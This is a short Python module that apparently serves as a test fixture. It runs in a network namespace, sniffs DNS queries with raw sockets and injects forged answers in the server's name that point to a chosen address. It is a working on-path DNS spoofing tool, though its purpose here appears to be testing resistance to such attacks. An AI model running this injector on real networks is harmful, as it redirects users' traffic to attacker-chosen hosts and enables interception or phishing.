"""A second sender on the path: answers every plain query that it sees with a lie, in the name of the server, and stops nothing.

    stop = start(NAMESPACE, DEVICE, "198.51.100.66")
"""
import ipaddress
import os
import socket
import struct
import subprocess
import sys

import scratch


def start(namespace, device, lie):
    """Starts a process in the namespace; returns what ends it."""
    process = scratch.start(["ip", "netns", "exec", namespace, sys.executable, os.path.abspath(__file__), device, lie], stdout=subprocess.PIPE)
    with process.stdout as said:
        said.readline()  # it listens
    return lambda: scratch.end(process)


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def answer_to(query, lie):
    """A DNS answer with one address for any question; nothing if it is no question for an address."""
    end = query.index(b"\0", 12) + 5
    kind = struct.unpack("!H", query[end - 4:end - 2])[0]
    if kind != 1:
        return b""
    head = query[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0)
    return head + query[12:end] + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + ipaddress.ip_address(lie).packed


def lying_packet(packet, lie):
    """The IPv4 packet that answers a query in the server's name; nothing if there is none."""
    if packet[0] != 0x45 or packet[9] != socket.IPPROTO_UDP or struct.unpack("!H", packet[22:24])[0] != 53:
        return b""
    payload = answer_to(packet[28:], lie)
    if not payload:
        return b""
    udp = packet[22:24] + packet[20:22] + struct.pack("!HH", 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + packet[16:20] + packet[12:16]
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def inject(device, lie):
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    seen.bind((device, 0))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("listens", flush=True)
    while True:
        packet, where = seen.recvfrom(65535)
        made = lying_packet(packet, lie) if where[2] == socket.PACKET_HOST else b""
        if made:
            out.sendto(made, (str(ipaddress.ip_address(made[16:20])), 0))


if __name__ == "__main__":
    inject(sys.argv[1], sys.argv[2])
